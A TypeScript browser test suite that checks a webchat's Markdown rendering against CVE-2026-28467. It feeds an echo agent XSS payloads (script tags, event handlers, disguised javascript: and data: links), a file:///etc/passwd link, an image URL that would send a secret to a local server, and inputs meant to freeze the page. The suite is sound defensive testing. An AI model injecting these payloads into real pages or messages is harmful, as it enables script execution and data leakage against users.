/** What an agent says must not be able to do anything. The echo agent says whatever it is told: also this. */
import { createServer, type Server } from "node:http";
import type { AddressInfo } from "node:net";
import type { Browser } from "playwright-core";
import { afterAll, beforeAll, expect, it } from "vitest";
import { buildIfStale } from "../../build-if-stale.ts";
import { inChromium, launch, PATIENT, type Visit, visit } from "../test-support/chromium.ts";
import { type GatewayProcess, startGatewayProcess } from "../test-support/gateway-process.ts";
import { Webchat } from "../test-support/webchat.ts";

inChromium("CVE-2026-28467 Markdown that would like to be more", () => {
  let browser: Browser;
  let gateway: GatewayProcess;
  let rogue: Server;
  let address: string;
  const heard: string[] = [];

  beforeAll(async () => {
    await buildIfStale();
    [browser, gateway] = await Promise.all([launch(), startGatewayProcess()]);
    rogue = createServer((request, response) => {
      // A browser asks for this by itself on behalf of pages that were opened.
      if (request.url !== "/favicon.ico") heard.push(request.url ?? "");
      response.end();
    });
    await new Promise<void>((resolve) => rogue.listen(0, "127.0.0.1", resolve));
    address = `http://127.0.0.1:${(rogue.address() as AddressInfo).port}`;
  }, 60_000);
  afterAll(async () => {
    rogue?.close();
    await browser?.close();
    await gateway?.[Symbol.asyncDispose]();
  });

  /** Has the agent say it, and returns the addresses its answer leads to. */
  const echoed = async ({ page }: Visit, text: string) => {
    const chat = await Webchat.begin(page, gateway.address, gateway.token);
    await page.evaluate(() => Object.assign(globalThis, { struck: 0 }));
    await chat.ask(`${text}\n\nend of text`, "end of text");
    for (const link of await chat.answers.locator("a").all()) {
      await link.click({ trial: true, timeout: 1_000 }).catch(() => {});
    }
    expect(await page.evaluate(() => (globalThis as { struck?: number }).struck)).toBe(0);
    return chat.answers.locator("a").evaluateAll((links) => links.map((link) => (link as HTMLAnchorElement).href));
  };

  const STRIKE = "globalThis.struck++";
  it.each([
    ["a script", `<script>${STRIKE}</script>`],
    ["an event handler", `<img src=x onerror="${STRIKE}">`],
    ["an SVG", `<svg/onload="${STRIKE}"><animate onbegin="${STRIKE}" attributeName=x dur=1s>`],
    ["a frame", `<iframe srcdoc="<script>parent.${STRIKE}</script>"></iframe>`],
    ["an open details", `<details open ontoggle="${STRIKE}">x</details>`],
    ["HTML across lines", `<a\nhref="javascript:${STRIKE}"\n>x</a>`],
    ["a script link", `[click](javascript:${STRIKE})`],
    [
      "a script link in disguise",
      `[click](\u0001java\tscript:${STRIKE}) [b](JaVaScRiPt:${STRIKE}) [c](&#106;avascript:${STRIKE})`,
    ],
    ["a data link", "[click](data:text/html,<script>opener.struck++</script>)"],
    ["a vbscript link", `[click](vbscript:${STRIKE}) [b](file:///etc/passwd) [c](blob:null/x)`],
    ["an autolink", `<javascript:${STRIKE}>`],
    ["a reference", `[click][x]\n\n[x]: javascript:${STRIKE} "title"`],
    ["a footnote", `x[^1]\n\n[^1]: <img src=x onerror="${STRIKE}"> [y](javascript:${STRIKE})`],
    ["a title that breaks out", `[x](https://example.org '" onmouseover="${STRIKE}')`],
    ["a code fence with a language that breaks out", `\`\`\`"><img/src=x/onerror=${STRIKE}>\ncode\n\`\`\``],
    ["a table", `| <img src=x onerror="${STRIKE}"> |\n|---|\n| [x](javascript:${STRIKE}) |`],
  ])("CVE-2026-28467 %s runs nothing", async (_, text) => {
    await using opened = await visit(browser);
    const links = await echoed(opened, text);
    for (const link of links) expect(link).toMatch(/^(https?|mailto|tel):/);
    expect(opened.complaints).toEqual([]);
  });

  it("CVE-2026-28467 no picture is fetched from elsewhere, so that reading a message tells nobody", async () => {
    await using opened = await visit(browser);
    const links = await echoed(
      opened,
      `![a picture](${address}/pixel?secret=1)\n\n<img src="${address}/html">\n\n<link rel=stylesheet href="${address}/css">`,
    );
    expect(links).toEqual([`${address}/pixel?secret=1`]);
    expect(heard).toEqual([]);
  });

  it("MSG-4 a link opens a page of its own that learns nothing of this one", async () => {
    await using opened = await visit(browser);
    const { page } = opened;
    await echoed(opened, `[out](${address}/visited) and ${address}/bare and a@b.example`);
    const link = page.getByRole("link", { name: "out" });
    expect(await link.getAttribute("rel")).toBe("noopener noreferrer nofollow");
    const [popup] = await Promise.all([page.waitForEvent("popup"), link.click()]);
    await popup.waitForLoadState();
    expect(await popup.evaluate(() => [globalThis.opener, document.referrer])).toEqual([null, ""]);
    heard.length = 0;
  });

  it("DEV-11 the page's policy forbids inline scripts and everything from elsewhere", async () => {
    await using opened = await visit(browser);
    const { page } = opened;
    await Webchat.open(page, gateway.address, gateway.token);
    await page.evaluate((from) => {
      Object.assign(globalThis, { struck: 0 });
      const inline = document.createElement("script");
      inline.textContent = "globalThis.struck++";
      const foreign = document.createElement("script");
      foreign.src = `${from}/script.js`;
      const image = document.createElement("img");
      image.src = `${from}/image.png`;
      document.body.append(inline, foreign, image);
      return fetch(`${from}/fetch`).catch(() => {});
    }, address);
    expect(await page.evaluate(() => (globalThis as { struck?: number }).struck)).toBe(0);
    expect(heard).toEqual([]);
    expect(opened.complaints.length).toBeGreaterThan(0);
  });

  it("MSG-5 NUL, control characters, lone surrogates and 60,000 emoji leave the page as it was", async () => {
    await using opened = await visit(browser);
    const { page } = opened;
    const chat = await Webchat.begin(page, gateway.address, gateway.token);
    await chat.ask("control \u0007 \u001b[31m \u202e and \ud83d alone, end of text", "end of text");
    await chat.say("😀".repeat(30_000));
    await expect.poll(() => chat.answers.count(), { timeout: 20_000 }).toBe(2);
    await chat.settled();
    await chat.ask("still here");
    expect(opened.complaints).toEqual([]);
  });

  it.each([
    ["quotes nested thousands deep", `${"> ".repeat(3_000)}x`],
    ["thousands of marks that open emphasis", "a*_".repeat(5_000)],
    ["a staircase of lists", Array.from({ length: 120 }, (_, depth) => `${"  ".repeat(depth)}- x`).join("\n")],
    ["a table of cells nobody wrote", `${"|a".repeat(500)}\n${"|-".repeat(500)}\n${"|\n".repeat(500)}`],
  ])("oc#72960 %s neither blanks nor freezes the page, now or when it is read again", async (_, text) => {
    await using opened = await visit(browser);
    const { page } = opened;
    const chat = await Webchat.begin(page, gateway.address, gateway.token);
    await chat.ask(`${text}\n\nend of text`, "end of text");
    await page.reload();
    await chat.answer("end of text").waitFor();
    expect(await chat.answers.locator("blockquote, em, li, td").count()).toBe(0);
    await chat.ask("still here");
    expect(opened.complaints).toEqual([]);
  });

  it("CH-10 a message whose view fails is shown in plain words, and the page stands", async () => {
    await using opened = await visit(browser);
    const { page } = opened;
    // A browser whose stack or memory ends in the middle of one message.
    await page.addInitScript(() => {
      const fromCodePoint = String.fromCodePoint;
      String.fromCodePoint = (...points) => {
        if (points[0] === 9731) throw new RangeError("Maximum call stack size exceeded");
        return fromCodePoint(...points);
      };
      const inWords = Date.prototype.toLocaleString;
      Date.prototype.toLocaleString = function (this: Date) {
        if (document.title === "fails") throw new RangeError("Invalid time value");
        return inWords.call(this);
      };
    });
    const chat = await Webchat.begin(page, gateway.address, gateway.token);
    await chat.ask("a **snowman**: &#9731; here", "a **snowman**: &#9731; here");
    expect(opened.complaints.join()).toContain("Maximum call stack size exceeded");
    await chat.ask("**still** here", "still here");
    await page.evaluate(() => {
      document.title = "fails";
    });
    await chat.say("in **bare** words");
    await expect.poll(() => chat.log.locator(".note-line", { hasText: "in **bare** words" }).count(), PATIENT).toBe(2);
    expect(await chat.field.isEditable()).toBe(true);
  });
});
